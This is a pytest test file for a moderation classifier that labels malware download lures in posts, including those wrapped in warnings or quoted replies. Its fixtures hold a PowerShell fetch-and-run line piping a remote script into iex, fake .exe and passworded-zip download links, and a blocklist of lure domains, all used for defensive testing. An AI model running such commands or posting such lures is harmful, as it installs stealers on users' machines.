"""Warning words do not hide a lure (our own wording of the reviewer's evasions).

A report's wording keeps only what the report *holds* below the label: lure text in a quote
block, code the author says not to run, lure phrases named in prose, a filter list. A live
download or fetch-and-run command in the author's own words is a lure however it is
introduced ("PSA", "beware", a checksum, "my spam filter..."), and an e-mail attribution
line ("Bob wrote:") over a quoted lure says nothing of the author's own.
"""

from __future__ import annotations

import pytest

from governance.config.defaults import default_config
from governance.detect import classify
from governance.detect.engine import QUOTED_CAP
from governance.model import Category, Label

RULES = default_config().moderation.rules[Category.MALWARE]
REVIEW, ACT = RULES.review_threshold, RULES.act_threshold

FIXED_EXE = "Fixed build: https://www.mediafire.com/file/abc123/widget_fix.exe"
ZIP_WITH_PASSWORD = ("the patched version is here https://www.mediafire.com/file/q7w2/fix.zip/file"
                     "\npassword: 2025")
SCRIPT = "iwr https://widget-fix.pages.dev/install.ps1 | iex"
ATTACHMENT = "try this https://github.com/user-attachments/files/123/a8f3e9c1d2_fix.zip"
MIRRORS = "\n".join(f"dl{i}.widget-mirror.net" for i in range(12))

OWN_WORDS = {
    "a checksum under the download": (
        FIXED_EXE + "\nsha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
    "a spam-filter aside": (
        FIXED_EXE + "\n(my spam filter flagged the old link, this one is fine)"),
    "a 'this is not a scam' aside": FIXED_EXE + " (this is not a scam)",
    "a PSA in front": "PSA: " + ZIP_WITH_PASSWORD,
    "beware in front": "Beware of the fake builds going around. " + ZIP_WITH_PASSWORD,
    "a warning in front": "Don't download from random forks. " + ZIP_WITH_PASSWORD,
    "be careful before a fenced command": (
        "Be careful, this needs an admin shell:\n```powershell\n"
        "iwr https://x.pages.dev/a.ps1 | iex\n```"),
    "bare mirror domains appended": FIXED_EXE + "\n\nmirrors:\n" + MIRRORS,
}
ATTRIBUTED = {
    "a script under 'Bob wrote:'": "Bob wrote:\n> run this in PowerShell: " + SCRIPT,
    "an attachment under 'Dev wrote:'": "Dev wrote:\n> " + ATTACHMENT,
    "a file-host exe under 'Ana wrote:'": "Ana wrote:\n> " + FIXED_EXE,
}


@pytest.mark.parametrize("text", OWN_WORDS.values(), ids=OWN_WORDS.keys())
def test_warning_words_next_to_a_live_lure_leave_it_labelled(text: str):
    verdict = classify(text)
    assert verdict.label is Label.MALWARE
    assert verdict.score >= REVIEW


@pytest.mark.parametrize("text", ATTRIBUTED.values(), ids=ATTRIBUTED.keys())
def test_an_attribution_line_over_a_quoted_lure_says_nothing_of_its_own(text: str):
    verdict = classify(text)
    assert verdict.label is Label.MALWARE
    assert verdict.score >= REVIEW
    assert not any(h.quoted for h in verdict.hits)


def test_a_lure_link_in_an_email_reply_stays_on_record_as_quoted():
    """The reply's own words are the author's; the quoted lure link is still read (it is
    clickable) and kept on record at the quoted cap, not blanked away."""
    verdict = classify("thanks, will try it tonight\n\nBob wrote:\n> " + FIXED_EXE)
    malware = [h for h in verdict.hits if h.category is Category.MALWARE]
    assert malware and all(h.quoted for h in malware)
    assert max(h.score for h in malware) == pytest.approx(QUOTED_CAP)


def test_a_warning_that_posts_the_live_download_is_reviewed_not_acted_on():
    verdict = classify("PSA, do not download this, it is malware: " + ZIP_WITH_PASSWORD)
    assert verdict.label is Label.MALWARE
    assert REVIEW <= verdict.score < ACT


GENUINE = {
    "a warning quoting the lure in a quote block": (
        "> " + ZIP_WITH_PASSWORD.replace("\n", "\n> ") + "\n\n"
        "Do not download this, it is malware. I reported the account."),
    "a warning quoting the command in code": (
        "Accounts are posting this under new issues:\n```\n" + SCRIPT + "\n```\n"
        "Do not run it, it is a stealer."),
    "a defanged indicator list": (
        "PSA, do not download from these, they are malware:\n"
        "- hxxps://www.mediafire[.]com/file/q7w2/fix.zip\n"
        "- hxxp://widget-fix.pages[.]dev/install.ps1\n- widget-mirror[.]net"),
    "a filter list of lure domains": (
        "Adding these to the blocklist:\n- widget-fix.pages.dev\n- widget-mirror.net\n"
        "- dl1.widget-mirror.net\n- fix-helper.pages.dev"),
}


@pytest.mark.parametrize("text", GENUINE.values(), ids=GENUINE.keys())
def test_a_genuine_warning_stays_below_act(text: str):
    verdict = classify(text)
    assert verdict.label is Label.OK
    assert verdict.score < REVIEW
